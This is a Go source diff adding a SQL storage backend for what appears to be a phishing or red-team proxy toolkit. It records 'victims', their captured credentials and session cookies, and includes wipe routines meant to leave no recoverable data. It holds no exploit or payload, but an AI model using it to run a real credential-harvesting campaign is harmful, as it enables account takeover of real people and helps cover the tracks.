@@ -0,0 +1,345 @@
+package db
+
+import (
+	"database/sql"
+	"errors"
+	"fmt"
+	"strconv"
+	"strings"
+
+	// Postgres driver
+	_ "github.com/lib/pq"
+)
+
+// migrations are the schema changes of the SQL storage, applied in order and recorded in schema_migrations.
+// Never edit an applied migration, append a new one instead.
+var migrations = []string{
+	`CREATE TABLE victims (
+		id TEXT PRIMARY KEY,
+		ip TEXT NOT NULL DEFAULT '',
+		ua TEXT NOT NULL DEFAULT '',
+		first_seen TEXT NOT NULL DEFAULT '',
+		last_seen TEXT NOT NULL DEFAULT '',
+		request_count INTEGER NOT NULL DEFAULT 0,
+		creds_count INTEGER NOT NULL DEFAULT 0,
+		cookiejar_id TEXT NOT NULL DEFAULT '',
+		session_instrumented BOOLEAN NOT NULL DEFAULT FALSE,
+		session_complete TEXT NOT NULL DEFAULT ''
+	);
+	CREATE TABLE credentials (
+		victim_id TEXT NOT NULL REFERENCES victims(id) ON DELETE CASCADE,
+		idx INTEGER NOT NULL,
+		key TEXT NOT NULL,
+		value TEXT NOT NULL,
+		time TEXT NOT NULL,
+		PRIMARY KEY (victim_id, idx)
+	);
+	CREATE TABLE cookies (
+		victim_id TEXT NOT NULL REFERENCES victims(id) ON DELETE CASCADE,
+		name TEXT NOT NULL,
+		value TEXT NOT NULL,
+		domain TEXT NOT NULL,
+		expires TEXT NOT NULL,
+		path TEXT NOT NULL,
+		http_only BOOLEAN NOT NULL,
+		secure BOOLEAN NOT NULL,
+		same_site TEXT NOT NULL,
+		session BOOLEAN NOT NULL,
+		PRIMARY KEY (victim_id, name)
+	)`,
+	`ALTER TABLE victims ADD COLUMN language TEXT NOT NULL DEFAULT ''`,
+}
+
+// sqlStorage keeps the tracking data in a SQL database, queryable during and after the campaign.
+// Postgres is supported out of the box, SQLite requires a database/sql driver registered as "sqlite"
+// (i.e. modernc.org/sqlite) to be linked in the binary.
+type sqlStorage struct {
+	db      *sql.DB
+	dialect string
+}
+
+func newSQLStorage(dialect, dsn string) (*sqlStorage, error) {
+	if dsn == "" {
+		return nil, fmt.Errorf("%s storage requires a dsn", dialect)
+	}
+
+	db, err := sql.Open(dialect, dsn)
+	if err != nil {
+		return nil, err
+	}
+
+	if dialect == "sqlite" {
+		// SQLite does not support concurrent writers
+		db.SetMaxOpenConns(1)
+
+		// Overwrite the deleted content, so that purged data cannot be recovered from the file
+		if _, err := db.Exec(`PRAGMA secure_delete = ON`); err != nil {
+			db.Close()
+			return nil, err
+		}
+	}
+
+	s := &sqlStorage{db: db, dialect: dialect}
+	if err := s.migrate(); err != nil {
+		db.Close()
+		return nil, err
+	}
+
+	return s, nil
+}
+
+// rebind converts the ? placeholders to the dialect ones
+func (s *sqlStorage) rebind(query string) string {
+	if s.dialect != "postgres" {
+		return query
+	}
+
+	var b strings.Builder
+	n := 0
+	for _, c := range query {
+		if c == '?' {
+			n++
+			b.WriteString("$" + strconv.Itoa(n))
+			continue
+		}
+		b.WriteRune(c)
+	}
+	return b.String()
+}
+
+func (s *sqlStorage) exec(query string, args ...interface{}) error {
+	_, err := s.db.Exec(s.rebind(query), args...)
+	return err
+}
+
+// migrate applies the pending migrations
+func (s *sqlStorage) migrate() error {
+	if err := s.exec(`CREATE TABLE IF NOT EXISTS schema_migrations (version INTEGER PRIMARY KEY)`); err != nil {
+		return err
+	}
+
+	var version int
+	if err := s.db.QueryRow(`SELECT COALESCE(MAX(version), 0) FROM schema_migrations`).Scan(&version); err != nil {
+		return err
+	}
+
+	for i := version; i < len(migrations); i++ {
+		tx, err := s.db.Begin()
+		if err != nil {
+			return err
+		}
+
+		for _, statement := range strings.Split(migrations[i], ";") {
+			if strings.TrimSpace(statement) == "" {
+				continue
+			}
+			if _, err := tx.Exec(statement); err != nil {
+				tx.Rollback()
+				return fmt.Errorf("storage migration %d: %w", i+1, err)
+			}
+		}
+
+		if _, err := tx.Exec(s.rebind(`INSERT INTO schema_migrations (version) VALUES (?)`), i+1); err != nil {
+			tx.Rollback()
+			return err
+		}
+
+		if err := tx.Commit(); err != nil {
+			return err
+		}
+	}
+
+	return nil
+}
+
+// StoreVictim implements the Storage interface
+func (s *sqlStorage) StoreVictim(v *Victim) error {
+	return s.exec(`INSERT INTO victims
+		(id, ip, ua, first_seen, last_seen, request_count, creds_count, cookiejar_id, session_instrumented, session_complete,
+		language)
+		VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
+		ON CONFLICT (id) DO UPDATE SET
+		ip = excluded.ip, ua = excluded.ua, last_seen = excluded.last_seen, request_count = excluded.request_count`,
+		v.ID, v.IP, v.UA, v.FirstSeen, v.LastSeen, v.RequestCount, v.CredsCount, v.CookieJar,
+		v.SessionInstrumented, v.SessionComplete, v.Language)
+}
+
+// StoreCredential implements the Storage interface
+func (s *sqlStorage) StoreCredential(victimID string, c *VictimCredential) error {
+	tx, err := s.db.Begin()
+	if err != nil {
+		return err
+	}
+	defer tx.Rollback()
+
+	var count int
+	if err := tx.QueryRow(s.rebind(`SELECT creds_count FROM victims WHERE id = ?`), victimID).Scan(&count); err != nil {
+		return err
+	}
+
+	if _, err := tx.Exec(s.rebind(`INSERT INTO credentials (victim_id, idx, key, value, time) VALUES (?, ?, ?, ?, ?)`),
+		victimID, count, c.Key, c.Value, c.Time); err != nil {
+		return err
+	}
+
+	if _, err := tx.Exec(s.rebind(`UPDATE victims SET creds_count = ? WHERE id = ?`), count+1, victimID); err != nil {
+		return err
+	}
+
+	return tx.Commit()
+}
+
+// StoreCookie implements the Storage interface. If the cookie exists, it is overridden.
+func (s *sqlStorage) StoreCookie(victimID string, c *VictimCookie) error {
+	return s.exec(`INSERT INTO cookies
+		(victim_id, name, value, domain, expires, path, http_only, secure, same_site, session)
+		VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
+		ON CONFLICT (victim_id, name) DO UPDATE SET
+		value = excluded.value, domain = excluded.domain, expires = excluded.expires, path = excluded.path,
+		http_only = excluded.http_only, secure = excluded.secure, same_site = excluded.same_site, session = excluded.session`,
+		victimID, c.Name, c.Value, c.Domain, c.Expires, c.Path, c.HTTPOnly, c.Secure, c.SameSite, c.Session)
+}
+
+// GetVictim implements the Storage interface
+func (s *sqlStorage) GetVictim(victimID string) (*Victim, error) {
+	var v Victim
+	err := s.db.QueryRow(s.rebind(`SELECT id, ip, ua, first_seen, last_seen, request_count, creds_count, cookiejar_id,
+		session_instrumented, session_complete, language FROM victims WHERE id = ?`), victimID).
+		Scan(&v.ID, &v.IP, &v.UA, &v.FirstSeen, &v.LastSeen, &v.RequestCount, &v.CredsCount, &v.CookieJar,
+			&v.SessionInstrumented, &v.SessionComplete, &v.Language)
+
+	if errors.Is(err, sql.ErrNoRows) {
+		return &Victim{Cookies: []VictimCookie{}, Credentials: []VictimCredential{}}, nil
+	}
+	if err != nil {
+		return nil, err
+	}
+
+	if v.Credentials, err = s.GetCredentials(v.ID); err != nil {
+		return nil, err
+	}
+	if v.Cookies, err = s.GetCookies(v.ID); err != nil {
+		return nil, err
+	}
+
+	return &v, nil
+}
+
+// GetCredentials implements the Storage interface
+func (s *sqlStorage) GetCredentials(victimID string) ([]VictimCredential, error) {
+	rows, err := s.db.Query(s.rebind(`SELECT key, value, time FROM credentials WHERE victim_id = ? ORDER BY idx`), victimID)
+	if err != nil {
+		return nil, err
+	}
+	defer rows.Close()
+
+	credentials := []VictimCredential{}
+	for rows.Next() {
+		var c VictimCredential
+		if err := rows.Scan(&c.Key, &c.Value, &c.Time); err != nil {
+			return nil, err
+		}
+		credentials = append(credentials, c)
+	}
+
+	return credentials, rows.Err()
+}
+
+// GetCookies implements the Storage interface
+func (s *sqlStorage) GetCookies(victimID string) ([]VictimCookie, error) {
+	rows, err := s.db.Query(s.rebind(`SELECT name, value, domain, expires, path, http_only, secure, same_site, session
+		FROM cookies WHERE victim_id = ? ORDER BY name`), victimID)
+	if err != nil {
+		return nil, err
+	}
+	defer rows.Close()
+
+	jar := []VictimCookie{}
+	for rows.Next() {
+		var c VictimCookie
+		if err := rows.Scan(&c.Name, &c.Value, &c.Domain, &c.Expires, &c.Path, &c.HTTPOnly, &c.Secure, &c.SameSite,
+			&c.Session); err != nil {
+			return nil, err
+		}
+		jar = append(jar, c)
+	}
+
+	return jar, rows.Err()
+}
+
+// GetVictimIDs implements the Storage interface
+func (s *sqlStorage) GetVictimIDs() ([]string, error) {
+	rows, err := s.db.Query(`SELECT id FROM victims ORDER BY first_seen, id`)
+	if err != nil {
+		return nil, err
+	}
+	defer rows.Close()
+
+	var ids []string
+	for rows.Next() {
+		var id string
+		if err := rows.Scan(&id); err != nil {
+			return nil, err
+		}
+		ids = append(ids, id)
+	}
+
+	return ids, rows.Err()
+}
+
+// SetSessionInstrumented implements the Storage interface
+func (s *sqlStorage) SetSessionInstrumented(victimID string) error {
+	return s.exec(`UPDATE victims SET session_instrumented = ? WHERE id = ?`, true, victimID)
+}
+
+// SetSessionComplete implements the Storage interface
+func (s *sqlStorage) SetSessionComplete(victimID string, profile string) error {
+	return s.exec(`UPDATE victims SET session_complete = ? WHERE id = ?`, profile, victimID)
+}
+
+// DeleteVictim implements the Storage interface
+func (s *sqlStorage) DeleteVictim(victimID string) error {
+	tx, err := s.db.Begin()
+	if err != nil {
+		return err
+	}
+	defer tx.Rollback()
+
+	for _, table := range []string{"credentials", "cookies"} {
+		if _, err := tx.Exec(s.rebind(`DELETE FROM `+table+` WHERE victim_id = ?`), victimID); err != nil {
+			return err
+		}
+	}
+
+	if _, err := tx.Exec(s.rebind(`DELETE FROM victims WHERE id = ?`), victimID); err != nil {
+		return err
+	}
+
+	return tx.Commit()
+}
+
+// Wipe implements the Storage interface.
+// The database is vacuumed afterwards, so that the deleted rows are not left in the data files.
+func (s *sqlStorage) Wipe() error {
+	for _, table := range []string{"credentials", "cookies", "victims"} {
+		if err := s.exec(`DELETE FROM ` + table); err != nil {
+			return err
+		}
+	}
+
+	vacuum := `VACUUM`
+	if s.dialect == "postgres" {
+		vacuum = `VACUUM FULL credentials, cookies, victims`
+	}
+	return s.exec(vacuum)
+}
+
+// Ping implements the Storage interface
+func (s *sqlStorage) Ping() error {
+	return s.db.Ping()
+}
+
+// Close implements the Storage interface
+func (s *sqlStorage) Close() error {
+	return s.db.Close()
+}